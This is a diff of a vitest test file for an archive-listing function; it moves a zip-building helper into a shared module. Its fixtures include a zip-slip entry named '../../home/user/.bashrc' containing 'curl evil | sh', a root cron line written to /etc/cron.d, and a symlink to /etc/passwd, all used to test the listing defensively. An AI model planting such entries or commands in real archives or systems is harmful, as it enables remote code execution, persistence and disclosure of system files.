@@ -1,8 +1,9 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { crc32, gzipSync } from 'node:zlib';
+import { gzipSync } from 'node:zlib';
 import { afterEach, describe, expect, it } from 'vitest';
+import { zipOf } from '../test-support/stored-zip.js';
 import { listArchive } from './archive-listing.js';
 
 /** A ustar header for one regular file of `size` bytes (checksum computed as tar does). */
@@ -24,51 +25,6 @@ function tarHeader(name: string, size: number): Buffer {
   return header;
 }
 
-/** A zip of stored (uncompressed) entries, written as zip tools do: local headers, central directory, end record. */
-function storedZip(entries: Array<{ name: string; content: Buffer; unixMode?: number }>): Buffer {
-  const locals: Buffer[] = [];
-  const centrals: Buffer[] = [];
-  let offset = 0;
-  for (const { name, content, unixMode } of entries) {
-    const nameBytes = Buffer.from(name, 'utf8');
-    const crc = crc32(content);
-    const local = Buffer.alloc(30);
-    local.writeUInt32LE(0x04034b50, 0);
-    local.writeUInt16LE(20, 4);
-    local.writeUInt16LE(0x0800, 6);
-    local.writeUInt32LE(crc, 14);
-    local.writeUInt32LE(content.length, 18);
-    local.writeUInt32LE(content.length, 22);
-    local.writeUInt16LE(nameBytes.length, 26);
-    const central = Buffer.alloc(46);
-    central.writeUInt32LE(0x02014b50, 0);
-    central.writeUInt16LE(20, 4);
-    central.writeUInt16LE(20, 6);
-    central.writeUInt16LE(0x0800, 8);
-    central.writeUInt32LE(crc, 16);
-    central.writeUInt32LE(content.length, 20);
-    central.writeUInt32LE(content.length, 24);
-    central.writeUInt16LE(nameBytes.length, 28);
-    if (unixMode !== undefined) {
-      // Made on Unix (as Info-ZIP writes it): st_mode in the high half of the external attributes.
-      central.writeUInt16LE((3 << 8) | 20, 4);
-      central.writeUInt32LE((unixMode << 16) >>> 0, 38);
-    }
-    central.writeUInt32LE(offset, 42);
-    locals.push(local, nameBytes, content);
-    centrals.push(central, nameBytes);
-    offset += local.length + nameBytes.length + content.length;
-  }
-  const directory = Buffer.concat(centrals);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(entries.length, 8);
-  end.writeUInt16LE(entries.length, 10);
-  end.writeUInt32LE(directory.length, 12);
-  end.writeUInt32LE(offset, 16);
-  return Buffer.concat([...locals, directory, end]);
-}
-
 const dirs: string[] = [];
 afterEach(() => {
   for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
@@ -84,7 +40,7 @@ function file(bytes: Buffer): string {
 
 describe('listArchive', () => {
   it('lists zip entries named outside the archive root as declared, as a tgz listing does (probe finding: such a zip was called corrupt)', async () => {
-    const zip = storedZip([
+    const zip = zipOf([
       { name: '../../home/user/.bashrc', content: Buffer.from('curl evil | sh\n') },
       { name: '/etc/cron.d/job', content: Buffer.from('* * * * * root id\n') },
       { name: 'pkg/ok.py', content: Buffer.from('print(1)\n') },
@@ -103,7 +59,7 @@ describe('listArchive', () => {
   });
 
   it('leaves zip symbolic links and other non-regular Unix entries out, as tgz listings do', async () => {
-    const zip = storedZip([
+    const zip = zipOf([
       { name: 'pkg/real.py', content: Buffer.from('print(1)\n'), unixMode: 0o100644 },
       { name: 'pkg/link.py', content: Buffer.from('/etc/passwd'), unixMode: 0o120777 },
       { name: 'pkg/sub', content: Buffer.alloc(0), unixMode: 0o040755 },
